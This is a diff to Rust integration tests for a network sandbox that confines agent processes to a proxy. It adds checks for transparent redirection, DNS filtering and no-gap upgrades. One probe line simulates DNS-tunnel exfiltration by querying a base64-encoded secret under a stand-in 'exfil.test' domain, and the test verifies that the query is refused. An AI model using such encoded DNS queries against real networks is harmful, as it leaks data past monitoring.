@@ -299,9 +299,10 @@ fn code(reply: &serde_json::Value) -> String {
 }
 
 /// The policy the pods get: the upstream's port, reachable only through the proxy.
+/// (Transparent mode off: a connect anywhere but the proxy is refused by the kernel.)
 fn upstream_policy(port: u16) -> String {
     format!(
-        "version: 1\nnetwork_policies:\n  local:\n    name: local\n    endpoints:\n      - {{ host: 127.0.0.1, port: {port}, protocol: tcp, allowed_ips: [127.0.0.0/8] }}\n"
+        "version: 1\nnetwork:\n  transparent: false\nnetwork_policies:\n  local:\n    name: local\n    endpoints:\n      - {{ host: 127.0.0.1, port: {port}, protocol: tcp, allowed_ips: [127.0.0.0/8] }}\n"
     )
 }
 
@@ -368,6 +369,42 @@ fn cgroupfs_crio_pod_with_the_node_default_reaches_only_its_proxy() {
     let pod = node.pod(Layout::CgroupfsCrio, 2);
     node.start(&["--default-policy", "default"]);
     assert_only_proxy_reachable(&node, &pod, &upstream, &["--policy", "default"]);
+}
+
+/// Transparent mode (the default) in a pod: the agent's direct connect to an allowed address
+/// arrives through the proxy, one to another address reaches nothing, and DNS to any resolver
+/// address is answered by leash for allowed names only; the daemon's `owner` records say where
+/// each redirected connection was going.
+#[test]
+fn transparent_mode_in_a_pod_redirects_to_the_proxy() {
+    let upstream = Listener::http("127.0.0.1:0", "upstream");
+    let other = Listener::http("127.0.0.1:0", "other");
+    let mut node = Node::new("transparent");
+    node.policy(
+        "default",
+        &format!(
+            "version: 1\nnetwork_policies:\n  local:\n    name: local\n    endpoints:\n      \
+             - {{ host: 127.0.0.1, port: {}, protocol: rest, access: full, allowed_ips: [127.0.0.0/8] }}\n      \
+             - {{ host: allowed.test, port: 443 }}\n",
+            upstream.addr.port()
+        ),
+    );
+    let pod = node.pod(Layout::CgroupfsCrio, 65);
+    node.start(&["--default-policy", "default"]);
+    let probe = bin("netprobe").display().to_string();
+    let script = format!(
+        "{probe} direct-get {}; {probe} direct-get {}; {probe} dns 127.0.0.153:53 allowed.test; {probe} dns 127.0.0.153:53 c2VjcmV0.exfil.test",
+        upstream.addr, other.addr
+    );
+    let out = node.confine(&pod, &[], &["/bin/sh", "-c", &script]);
+    let text = stdout(&out);
+    assert_eq!(out.status.code(), Some(0), "leash confine: {text} {}", stderr(&out));
+    assert!(text.contains("GET 200 upstream"), "the allowed address through the redirect: {text} {}", stderr(&out));
+    assert!(text.contains("GET 0"), "another address: {text}");
+    assert!(text.contains("dns rcode=0 answers=1 from=127.0.0.153"), "{text} {}", stderr(&out));
+    assert!(text.contains("dns rcode=3 answers=0 from=127.0.0.153"), "{text}");
+    assert_eq!((upstream.accepted(), other.accepted()), (1, 0));
+    assert!(stderr(&out).contains(&format!("redirected from {}", other.addr)), "{}", stderr(&out));
 }
 
 #[test]
@@ -817,8 +854,9 @@ fn an_upgrade_moves_every_sandbox_to_the_new_programs_without_a_gap() {
     let pod = node.pod(Layout::SystemdContainerd, 13);
     node.start(&["--default-policy", "default", "--generation", "gen-00000000000000aa"]);
     let probe = bin("netprobe").display().to_string();
-    // Tries the upstream directly every few milliseconds for as long as it lives.
-    let script = format!("while true; do {probe} tcp {}; sleep 0.005; done", upstream.addr);
+    // Tries the upstream directly every few milliseconds for as long as it lives (in transparent
+    // mode: redirected to the proxy, which refuses it; a gap in the programs would reach it).
+    let script = format!("while true; do {probe} direct-get {}; sleep 0.005; done", upstream.addr);
     let mut agent = node
         .confine_cmd(&pod, &[], &["/bin/sh", "-c", &script])
         .stdout(Stdio::piped())
@@ -828,7 +866,8 @@ fn an_upgrade_moves_every_sandbox_to_the_new_programs_without_a_gap() {
     let mut out = BufReader::new(agent.stdout.take().unwrap());
     let mut first = String::new();
     out.read_line(&mut first).unwrap();
-    assert!(first.starts_with("err"), "{first}");
+    let refused = |l: &str| l == "GET 0" || l.starts_with("err") || l == "ok";
+    assert!(refused(first.trim()), "{first}");
     let lines = std::thread::spawn(move || {
         let mut all = Vec::new();
         for line in out.lines() {
@@ -861,7 +900,7 @@ fn an_upgrade_moves_every_sandbox_to_the_new_programs_without_a_gap() {
     agent.wait().ok();
     let lines = lines.join().unwrap();
     assert!(lines.len() > 10, "too few probes to tell: {}", lines.len());
-    assert!(lines.iter().all(|l| l.starts_with("err")), "a probe got through during the upgrade: {lines:?}");
+    assert!(lines.iter().all(|l| refused(l)), "a probe got an answer during the upgrade: {lines:?}");
     assert_eq!(upstream.accepted(), 0, "the upstream was reached during the upgrade");
 }
 
